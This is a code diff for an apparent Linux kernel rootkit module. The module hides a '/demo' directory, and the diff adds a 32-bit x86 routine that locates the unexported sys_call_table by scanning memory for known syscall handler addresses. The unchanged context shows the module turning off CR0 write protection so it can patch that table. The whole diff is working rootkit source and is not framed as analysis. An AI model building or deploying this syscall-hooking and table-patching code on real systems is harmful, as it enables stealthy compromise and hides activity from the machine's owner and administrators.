@@ -15,10 +15,12 @@
 
 #include <linux/fs.h>
 #include <linux/kprobes.h>
+#include <linux/mm.h>
 #include <linux/module.h>
 #include <linux/preempt.h>
 #include <asm/processor-flags.h>
 #include <asm/special_insns.h>
+#include <asm/syscall.h>
 #include <asm/unistd.h>
 
 static char *dir = "/demo";
@@ -86,6 +88,39 @@ static unsigned long lookup(const char *name)
 	return find ? find(name) : 0;
 }
 
+#ifdef CONFIG_X86_32
+#define SEARCH_BYTES (32u << 20)
+
+/*
+ * Debian's 32-bit kernels know the names of functions only (no
+ * CONFIG_KALLSYMS_ALL). The table is behind the kernel's code, which is mapped
+ * with all of low memory: look for three functions that it leads to.
+ */
+static unsigned long find_table(void)
+{
+	unsigned long call_exit = lookup("__ia32_sys_exit");
+	unsigned long call_read = lookup("__ia32_sys_read");
+	unsigned long call_write = lookup("__ia32_sys_write");
+	unsigned long *table = (unsigned long *)PAGE_ALIGN(lookup("_etext"));
+	unsigned long *end = (void *)table + SEARCH_BYTES;
+
+	if (!call_exit || !call_read || !call_write || !table)
+		return 0;
+	end = min(end, (unsigned long *)high_memory) - NR_syscalls;
+	for (; table < end; table++)
+		if (table[__NR_exit] == call_exit &&
+		    table[__NR_read] == call_read &&
+		    table[__NR_write] == call_write)
+			return (unsigned long)table;
+	return 0;
+}
+#else
+static unsigned long find_table(void)
+{
+	return lookup("sys_call_table");
+}
+#endif
+
 static void load_cr0(unsigned long cr0)
 {
 	/* write_cr0() would set WP again. */
@@ -131,7 +166,7 @@ static int __init rootkit_init(void)
 		pr_crit("%s is not listed by iterate_shared\n", dir);
 		return -EOPNOTSUPP;
 	}
-	table = lookup("sys_call_table");
+	table = find_table();
 	if (!table) {
 		pr_crit("sys_call_table was not found\n");
 		return -ENOENT;
